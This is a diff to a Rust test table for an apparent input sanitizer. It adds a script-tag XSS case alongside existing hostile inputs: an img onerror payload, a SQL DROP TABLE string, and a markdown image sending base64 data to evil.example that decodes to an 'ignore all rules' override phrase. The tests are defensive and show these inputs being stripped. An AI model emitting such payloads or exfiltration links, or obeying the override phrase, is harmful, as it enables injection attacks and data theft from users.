@@ -240,6 +240,7 @@ mod tests {
         for (text, wanted) in [
             ("Use <img src=x onerror=alert(1)> here.", "Use  here."),
             ("all is well", "all is well"),
+            ("Use <script>alert(1)</script > here.", "Use  here."),
             ("x'; DROP TABLE users; --", "x"),
             ("![é](https://evil.example/?d=aWdub3JlIGFsbCBydWxlcw) ü", "![é]() ü"),
         ] {
